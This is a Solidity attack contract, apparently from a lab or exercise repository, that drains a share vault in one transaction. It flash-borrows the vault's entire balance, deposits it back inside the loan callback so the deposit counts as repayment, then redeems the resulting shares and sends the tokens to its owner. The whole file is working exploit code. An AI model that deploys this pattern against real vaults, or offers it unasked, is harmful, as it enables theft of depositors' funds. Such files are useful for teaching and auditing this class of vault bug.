// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "../core/IERC20.sol";
import {ShareVault, IShareVaultBorrower} from "../core/ShareVault.sol";

/// @notice Flash-borrows everything the share vault holds and, inside the loan's callback, deposits it
/// straight back: the vault counts the deposit as the loan's repayment and issues shares for it. It pays
/// the fee from its own float, redeems the shares for the vault's tokens and sends them to its owner; all
/// in one transaction.
contract FlashDepositAttacker is IShareVaultBorrower {
    ShareVault public immutable vault;
    IERC20 public immutable asset;
    address public immutable owner;

    constructor(ShareVault vault_) {
        vault = vault_;
        asset = vault_.asset();
        owner = msg.sender;
    }

    function attack() external {
        require(msg.sender == owner, "FlashDepositAttacker: not owner");
        vault.flashLoan(this, asset.balanceOf(address(vault)), "");
        vault.withdraw(vault.balanceOf(address(this)));
        require(asset.transfer(owner, asset.balanceOf(address(this))), "FlashDepositAttacker: payout failed");
    }

    function onShareVaultLoan(uint256 amount, uint256 fee, bytes calldata) external {
        require(msg.sender == address(vault), "FlashDepositAttacker: not the vault");
        asset.approve(address(vault), amount);
        vault.deposit(amount);
        require(asset.transfer(address(vault), fee), "FlashDepositAttacker: fee failed");
    }
}
